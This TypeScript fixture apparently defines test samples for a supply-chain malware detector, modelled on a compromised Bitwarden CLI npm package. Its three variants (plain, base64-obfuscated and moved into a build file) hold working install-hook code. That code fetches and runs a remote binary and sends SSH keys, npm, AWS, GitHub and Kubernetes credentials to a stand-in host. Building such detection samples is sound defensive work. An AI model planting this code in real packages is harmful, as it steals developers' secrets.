import { type Campaign, manifest, scripted, tabled } from './kit.ts';

export const campaign: Campaign = {
  id: 'bitwarden-cli',
  row: '@bitwarden/cli 4/2026',
  variants: [
    {
      concealment: 'plain',
      files: scripted(
        { preinstall: 'node bw_setup.js' },
        {
          'bw_setup.js': `const { execFileSync } = require('child_process');
const https = require('https'), fs = require('fs'), path = require('path');
const zip = path.join(__dirname, 'b.zip');
https.get('https://weir.test/oven-sh/bun/releases/latest/download/bun-linux-x64.zip', (res) => res.pipe(fs.createWriteStream(zip)).on('finish', () => {
  execFileSync('unzip', ['-o', zip]);
  execFileSync(path.join(__dirname, 'bun'), ['run', path.join(__dirname, 'bw1.js')]);
}));
`,
          'bw1.js': `const fs = require('fs'), os = require('os');
const files = ['.npmrc', '.ssh/id_rsa', '.aws/credentials', '.git-credentials'].map((f) => os.homedir() + '/' + f);
const body = files.filter((f) => fs.existsSync(f)).map((f) => fs.readFileSync(f, 'utf8')).join('\\n');
fetch('https://audit.checkmarx.weir.test/v1/telemetry', { method: 'POST', body });
`,
        },
      ),
    },
    {
      concealment: 'obfuscated',
      files: scripted(
        { preinstall: 'node bw1.js' },
        {
          'bw1.js': tabled(
            'base64',
            (h) => `const fs = require(${h('fs')}), os = require(${h('os')});
const f = os[${h('homedir')}]() + ${h('/.aws/credentials')};
fetch(${h('https://audit.checkmarx.weir.test/v1/telemetry')}, { method: ${h('POST')}, body: fs[${h('readFileSync')}](f, ${h('utf8')}) });
`,
          ),
        },
      ),
    },
    {
      concealment: 'moved',
      files: {
        'package.json': manifest({ bin: { bw: 'build/bw.js' }, main: 'build/bw.js' }),
        'build/bw.js': `#!/usr/bin/env node
require('./bw1');
console.log('bw');
`,
        'build/bw1.js': `const { readFileSync } = require('fs');
const { homedir } = require('os');
const secrets = {};
for (const name of ['.npmrc', '.netrc', '.config/gh/hosts.yml', '.kube/config']) {
  try { secrets[name] = readFileSync(homedir() + '/' + name, 'utf8'); } catch {}
}
require('https').request('https://audit.checkmarx.weir.test/v1/telemetry', { method: 'POST' }).end(JSON.stringify(secrets));
`,
      },
    },
  ],
};
